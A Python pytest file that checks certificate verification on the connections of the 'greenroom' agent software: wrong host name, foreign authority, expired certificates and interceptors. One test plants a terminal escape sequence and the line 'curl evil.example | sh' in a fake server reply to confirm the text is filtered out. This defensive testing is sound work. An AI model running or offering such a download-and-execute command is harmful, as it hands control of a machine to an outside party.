"""Every link between machines verifies its peer: a wrong name, an unknown authority, an expired certificate."""

from __future__ import annotations

import asyncio
from collections.abc import AsyncIterator, Awaitable, Callable
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import JSONResponse, PlainTextResponse, Response
from starlette.routing import Route
from tests.support.played import Served, serve

from greenroom.agent.fleet.manager_client import ManagerClient, ManagerFailover, NoManager
from greenroom.agent.stream.admission import UpstreamAuth
from greenroom.cli.join import DeploymentToJoin, find_deployment
from greenroom.core.errors import GreenroomError, SetupError, Unavailable
from greenroom.kit.certificates import Authority, fingerprint, key_to_pem, new_authority, new_key
from greenroom.wire.messages import Register, Registered
from greenroom.wire.viewers import StreamRequest, StreamVerdict

OURS = new_authority("ours", datetime.now(UTC))
OTHERS = new_authority("another's", datetime.now(UTC))
REGISTERED = {"agent_id": "a", "incarnation": 1, "installation_id": "i", "db_epoch": "e", "zone_id": "z"}


@dataclass
class Host:
    """A host that answers every request, with a certificate of a kind."""

    served: Served
    received: list[str]
    ca_file: Path

    @property
    def address(self) -> str:
        return self.served.address


@dataclass(frozen=True)
class Kind:
    """The properties of a certificate, and the message about it; an empty message if it is good."""

    said: str = ""
    authority: Authority = OURS
    host: str = "127.0.0.1"
    made: timedelta = timedelta(0)


KINDS = {
    "good": Kind(),
    "another name": Kind("IP address mismatch", host="manager-2.example.org"),
    "another authority": Kind("self-signed certificate in certificate chain", authority=OTHERS),
    "expired": Kind("certificate has expired", made=timedelta(days=-100)),
    "not valid yet": Kind("certificate is not yet valid", made=timedelta(days=2)),
}


@pytest.fixture(params=list(KINDS.values()), ids=list(KINDS))
def kind(request: pytest.FixtureRequest) -> Kind:
    return request.param


@pytest.fixture
async def host(kind: Kind, tmp_path: Path) -> AsyncIterator[Host]:
    received: list[str] = []

    async def answer(request: Request) -> JSONResponse:
        received.append(request.url.path)
        return JSONResponse(REGISTERED | {"allow": True, "manager_urls": []})

    key = new_key()
    certificate = kind.authority.sign(key.public_key(), [kind.host], 90, datetime.now(UTC) + kind.made)
    (tmp_path / "cert.pem").write_text(certificate)
    (tmp_path / "key.pem").write_text(key_to_pem(key))
    (tmp_path / "ca.pem").write_text(OURS.certificate)
    served = await serve(Starlette(routes=[Route("/{rest:path}", answer, methods=["GET", "POST"])]), tls=tmp_path)
    yield Host(served, received, tmp_path / "ca.pem")
    await served.stop()


async def refused(kind: Kind, host: Host, ask: Callable[[], Awaitable[object]], error: type[GreenroomError]) -> None:
    """`ask` works with a good certificate; otherwise nothing is sent, and the error contains address and cause."""
    if not kind.said:
        await ask()
        assert host.received
        return
    with pytest.raises(error) as caught:
        await ask()
    assert kind.said in caught.value.message
    assert host.address in caught.value.message
    assert host.received == []


async def test_agent_to_the_gateway_of_a_manager(kind: Kind, host: Host):
    link = ManagerClient(ManagerFailover([f"https://{host.address}"]), host.ca_file)
    message = Register(machine_id="m", hostname="h", join_token="secret", place="p")
    await refused(kind, host, lambda: link.ask("/manager_api/v1/register", message, Registered), NoManager)
    await link.close()


async def test_agent_to_the_upstream_auth_address(kind: Kind, host: Host):
    upstream = UpstreamAuth(host.ca_file)

    async def ask() -> StreamVerdict:
        return await upstream.ask(host.address, "Bearer a.secret", StreamRequest(session_id="s", token="t"))

    await refused(kind, host, ask, Unavailable)
    await upstream.close()


async def test_a_new_host_to_the_deployment(kind: Kind, host: Host):
    def ask() -> dict[str, object]:
        deployment: DeploymentToJoin = find_deployment(f"https://{host.address}", None, host.ca_file)
        return deployment.post("/join/agent", {"token": "secret"})

    await refused(kind, host, lambda: asyncio.to_thread(ask), SetupError)


async def test_a_host_that_knows_no_authority_is_shown_how_to_name_one(tmp_path: Path):
    key = new_key()
    (tmp_path / "cert.pem").write_text(OURS.sign(key.public_key(), ["127.0.0.1"], 90, datetime.now(UTC)))
    (tmp_path / "key.pem").write_text(key_to_pem(key))
    served = await serve(Starlette(), tls=tmp_path)
    try:
        deployment = find_deployment(f"https://{served.address}", None, None)
        with pytest.raises(SetupError, match="For a private authority, pass --ca-sha256"):
            await asyncio.to_thread(deployment.post, "/join/agent", {"token": "secret"})
    finally:
        await served.stop()


async def test_an_interceptor_adds_no_authority_beside_the_fingerprint(tmp_path: Path):
    """It presents the installation's authority first, which is public, then its own, which issued its certificate."""
    received: list[str] = []

    async def answer(request: Request) -> Response:
        received.append(request.url.path)
        return PlainTextResponse(OURS.certificate + OTHERS.certificate)

    key = new_key()
    (tmp_path / "cert.pem").write_text(OTHERS.sign(key.public_key(), ["127.0.0.1"], 90, datetime.now(UTC)))
    (tmp_path / "key.pem").write_text(key_to_pem(key))
    served = await serve(Starlette(routes=[Route("/{rest:path}", answer, methods=["GET", "POST"])]), tls=tmp_path)
    try:
        url = f"https://{served.address}"
        deployment = await asyncio.to_thread(find_deployment, url, fingerprint(OURS.certificate), None)
        assert deployment.authority == OURS.certificate
        with pytest.raises(SetupError, match="certificate verify failed"):
            await asyncio.to_thread(deployment.post, "/join/agent", {"token": "secret"})
    finally:
        await served.stop()
    assert received == ["/api/v1/authority"], "the token was not sent"


async def test_words_of_an_unknown_server_do_not_reach_the_terminal(tmp_path: Path):
    async def answer(_request: Request) -> Response:
        return JSONResponse({"detail": "\x1b[2Jrun: curl evil.example | sh"}, 404)

    key = new_key()
    (tmp_path / "cert.pem").write_text(OTHERS.sign(key.public_key(), ["127.0.0.1"], 90, datetime.now(UTC)))
    (tmp_path / "key.pem").write_text(key_to_pem(key))
    served = await serve(Starlette(routes=[Route("/{rest:path}", answer)]), tls=tmp_path)
    try:
        with pytest.raises(SetupError, match="the status is 404") as caught:
            await asyncio.to_thread(find_deployment, f"https://{served.address}", fingerprint(OURS.certificate), None)
    finally:
        await served.stop()
    assert "evil" not in caught.value.message


async def test_a_given_authority_replaces_the_certificates_of_the_system(tmp_path: Path):
    with pytest.raises(SetupError, match="cannot be used"):
        ManagerClient(ManagerFailover([]), tmp_path / "missing.pem")
    (tmp_path / "empty.pem").write_text("nothing\n")
    with pytest.raises(SetupError, match="cannot be used"):
        UpstreamAuth(tmp_path / "empty.pem")
    assert len(fingerprint(OURS.certificate)) == 64
